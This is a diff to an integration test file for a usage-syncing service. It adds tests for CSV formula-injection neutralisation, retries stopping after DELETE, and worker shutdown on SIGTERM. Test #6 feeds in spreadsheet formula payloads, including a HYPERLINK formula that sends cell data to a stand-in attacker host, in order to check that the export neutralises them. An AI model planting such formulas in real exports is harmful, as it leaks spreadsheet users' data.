@@ -7,6 +7,8 @@ import { generatePredictions } from "../../dev/predictions.js";
 import { eventCounts, expectExact, waitForSyncedSince } from "../support/sync-checks.js";
 import { captureLogs, dumpDatabase, findSecrets } from "../support/leaks.js";
 import { dumpRedis } from "../support/redis.js";
+import { WorkerProcess } from "../support/worker-process.js";
+import * as producer from "../../src/producer.js";
 
 // Issue 11, provider edges: what a hostile or broken provider can send, one connection per test,
 // connected through the real HTTP API.
@@ -195,11 +197,9 @@ test("#8 a next link with user:password on the API origin is refused, never foll
   );
   expect(refused!.message).toMatch(/user name or password/);
   expect(refused!.message).not.toContain("pw");
-  const sent = h.fake.requests.filter((r) => r.endpoint === "predictions");
-  expect(sent.length).toBeGreaterThan(0);
-  // The refused link would have been sent with Basic auth (its userinfo) instead of the Bearer token.
-  expect(sent.filter((r) => !r.authorization?.startsWith("Bearer "))).toEqual([]);
-  expect(sent.some((r) => r.authorization === `Bearer ${token}`)).toBe(true);
+  // got would have sent the link's user:password as Basic auth.
+  expect(h.fake.requests.filter((r) => r.authorization === `Bearer ${token}`).length).toBeGreaterThan(0);
+  expect(h.fake.requests.filter((r) => !r.authorization?.startsWith("Bearer "))).toEqual([]);
   expect(await h.ctx.db.connection.findUniqueOrThrow({ where: { id } })).toMatchObject({ status: "connected" });
   expect((await api("POST", `/v1/connections/${id}/sync`)).status).toBe(202);
   await waitForSyncedSince(h, id, null);
@@ -211,3 +211,120 @@ test("#8 a next link with user:password on the API origin is refused, never foll
     outcome: "not followed (no Basic auth request); foreign_link_refused + sync_failed; still connected; next run exact",
   });
 });
+
+test("#6 usage CSV: formula cells neutralised, RFC 4180 quoting (bare CR too), numbers numeric, sent as an attachment", async () => {
+  const models = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tx", "a\rb"];
+  const truth = generatePredictions({ count: 120, days: 2, seed: 611, idPrefix: "c" }).map((p, i) => ({
+    ...p,
+    model: models[i % models.length]!,
+  }));
+  const { id } = await connect("csvinjection", truth);
+  await waitForSyncedSince(h, id, null);
+  const [from, to] = ["2020-01-01", "2099-12-31"];
+  const res = await api("GET", `/v1/usage?connectionId=${id}&from=${from}&to=${to}&groupBy=model&format=csv`);
+  expect(res.status).toBe(200);
+  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
+  expect(res.headers.get("content-disposition")).toBe(`attachment; filename="usage-${from}-${to}.csv"`);
+  const rows = res.text.split("\n");
+  expect(rows[0]).toMatch(/^line,model,predictions,succeeded,failed,canceled,aborted,inProgress,other,computeSeconds,meteredPredictions,/);
+  expect(rows.pop()).toBe("");
+  expect(rows.slice(1)).toHaveLength(models.length);
+  for (const expected of [
+    `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",20,`,
+    `'+1,20,`,
+    `'-2,20,`,
+    `'@SUM(A1),20,`,
+    `'\tx,20,`,
+    `"a\rb",20,`,
+  ]) {
+    expect(rows.filter((r) => r.startsWith(`usage,${expected}`))).toHaveLength(1);
+  }
+  // Numbers stay numbers: the counts and seconds after the model are plain decimals.
+  for (const row of rows.slice(1)) expect(row.slice(row.indexOf(",20,") + 1)).toMatch(/^20(,\d+(\.\d+)?){8},/);
+  recordScenario({
+    scenario: "#6 CSV injection",
+    injected: "model names =HYPERLINK(…), +1, -2, @SUM(A1), \\tx, a\\rb",
+    outcome: "formula cells prefixed with ', quoted per RFC 4180 (bare CR too), numbers unchanged; Content-Disposition attachment",
+  });
+});
+
+test(
+  "#9 after DELETE answers, the client's own retries stop: only the request already on the wire completes",
+  async () => {
+    const slow503: Fault = { kind: "status", status: 503, delayMs: 1500 };
+    const truth = generatePredictions({ count: 200, days: 2, seed: 911, idPrefix: "w" });
+    const { id, token } = await connect("deletemidretry", truth, { faults: [slow503, slow503, slow503] });
+    const withToken = () => h.fake.requests.filter((r) => r.authorization === `Bearer ${token}` && r.endpoint === "predictions");
+    await waitFor(
+      "the first page request on the wire",
+      async () => withToken().length,
+      (n) => n === 1,
+    );
+    expect((await api("DELETE", `/v1/connections/${id}`)).status).toBe(204);
+    const deletedAt = Date.now();
+    await waitFor(
+      "the request in flight answered and the job settled",
+      async () => ({
+        unanswered: withToken().filter((r) => r.status === 0).length,
+        jobs: (await h.ctx.queues.sync.getJobs(["active", "waiting", "delayed"])).filter((j) => j?.data.connectionId === id).length,
+      }),
+      (s) => s.unanswered === 0 && s.jobs === 0,
+    );
+    const late = withToken().filter((r) => r.at > deletedAt);
+    expect(late).toEqual([]);
+    expect(withToken()).toHaveLength(1);
+    recordScenario({
+      scenario: "#9 DELETE while the client retries a slow 503",
+      injected: "3 × 503 after 1.5 s on the first page; DELETE while the first is on the wire",
+      outcome: `${withToken().length} request with the token in all, ${late.length} after DELETE answered`,
+    });
+  },
+  TIMEOUT,
+);
+
+test(
+  "#10 SIGTERM while a job waits on a hanging provider: the worker exits within 20 s; a later worker completes the run exactly",
+  async () => {
+    // Workers only as OS processes here, with a provider timeout longer than the hang.
+    const own = await createHarness({ REPLICATE_TIMEOUT_MS: "180000", JOB_ATTEMPTS: "4", JOB_BACKOFF_MS: "20" }, { workers: false });
+    const processes: WorkerProcess[] = [];
+    try {
+      const token = "r8_hangingProviderToken000000000000000";
+      const truth = generatePredictions({ count: 300, days: 3, seed: 1011, idPrefix: "t" });
+      own.fake.addAccount(token, { type: "organization", username: "hang" }, truth);
+      own.fake.inject(token, "predictions", { kind: "delay", ms: 120_000 });
+      const first = new WorkerProcess(own.env);
+      processes.push(first);
+      await first.ready();
+      const { id } = await producer.connect(own.ctx, { workspaceId: "ws-hang", token });
+      await waitFor(
+        "the page request hanging",
+        async () => own.fake.requests.filter((r) => r.endpoint === "predictions").length,
+        (n) => n === 1,
+      );
+      const sentAt = Date.now();
+      let timer: NodeJS.Timeout | undefined;
+      const exited = await Promise.race([first.stop().then(() => true), new Promise((r) => (timer = setTimeout(() => r(false), 25_000)))]);
+      clearTimeout(timer);
+      const took = Date.now() - sentAt;
+      expect(exited).toBe(true);
+      expect(took).toBeLessThan(20_000);
+
+      const second = new WorkerProcess(own.env);
+      processes.push(second);
+      await second.ready();
+      await waitForSyncedSince(own, id, null);
+      await expectExact(own, id, truth);
+      expect(await eventCounts(own, id)).toMatchObject({ sync_started: 1, sync_completed: 1 });
+      recordScenario({
+        scenario: "#10 SIGTERM during a hanging provider request",
+        injected: "first page answers after 120 s (timeout 180 s); SIGTERM to the worker process",
+        outcome: `exited ${(took / 1000).toFixed(1)} s after SIGTERM (request aborted); a new worker resumed the run; exact`,
+      });
+    } finally {
+      await Promise.all(processes.map((p) => p.kill9()));
+      await own.close();
+    }
+  },
+  TIMEOUT,
+);
